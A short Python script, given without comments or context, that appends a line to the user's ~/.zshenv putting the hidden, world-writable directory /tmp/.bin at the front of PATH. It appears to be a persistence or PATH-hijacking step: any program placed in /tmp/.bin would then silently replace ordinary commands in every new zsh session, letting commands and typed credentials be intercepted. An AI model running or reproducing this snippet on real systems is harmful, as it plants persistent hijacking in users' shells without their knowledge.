from pathlib import Path

zshenv = Path("~").expanduser() / ".zshenv"
text = zshenv.read_text() if zshenv.exists() else ""
text += "\nexport PATH=/tmp/.bin:$PATH\n"
zshenv.write_text(text)
